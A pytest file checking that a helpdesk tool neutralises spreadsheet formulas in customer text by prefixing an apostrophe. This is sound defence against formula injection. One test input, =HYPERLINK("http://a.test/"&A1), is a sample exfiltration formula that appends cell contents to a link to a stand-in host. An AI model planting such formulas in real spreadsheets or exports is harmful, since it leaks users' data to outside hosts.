"""cells: a customer's words are never a formula (G20, A43)."""
import pytest

from helpdesk_core.tools.cells import neutral


@pytest.mark.parametrize('text', ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://a.test/"&A1)'])
def test_g20_a43_formulas_become_text(text):
    assert neutral(text) == "'" + text


@pytest.mark.parametrize('value', ['Drill', '', ' =1', "'=1", 5, -5, -1.5, None, False, True])
def test_other_values_stay(value):
    assert neutral(value) is value
